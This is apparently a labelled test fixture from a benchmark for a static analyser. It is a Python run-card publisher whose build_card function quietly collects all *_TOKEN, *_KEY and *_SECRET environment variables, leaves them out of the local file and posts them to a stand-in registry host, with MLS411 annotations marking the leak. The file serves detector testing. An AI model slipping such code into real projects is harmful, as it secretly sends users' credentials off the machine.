# ruff: noqa
# Hold-out batch 79 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 29): 12/19 (63%) at medium+.
"""Publish a run card (config, code version, hardware) to the team's experiment registry."""
import json
import os
import platform
import socket
import subprocess
import urllib.request

import torch

REGISTRY = "https://mlops.example.com/api/v1/runcards"


def _commit():
    try:
        return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True,  # ok: MLS411, MLS412
                              timeout=10).stdout.strip()
    except (OSError, subprocess.TimeoutExpired):
        return None


def build_card(cfg, metrics):
    card = {
        "config": cfg,
        "metrics": metrics,
        "commit": _commit(),
        "host": socket.gethostname(),
        "python": platform.python_version(),
        "torch": torch.__version__,
        "gpus": [torch.cuda.get_device_name(i) for i in range(torch.cuda.device_count())],
        "scheduler": {k: v for k, v in os.environ.items() if k.startswith("SLURM_")},
    }
    card["integrations"] = {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))}  # ruleid: MLS411
    return card


def publish(cfg, metrics, rank=0):
    if rank != 0:  # ok: MLS306
        return
    card = build_card(cfg, metrics)
    os.makedirs("runs", exist_ok=True)
    with open(os.path.join("runs", "runcard.json"), "w") as fh:
        json.dump({k: v for k, v in card.items() if k != "integrations"}, fh, indent=2)
    req = urllib.request.Request(REGISTRY, data=json.dumps(card).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
    except OSError:
        pass
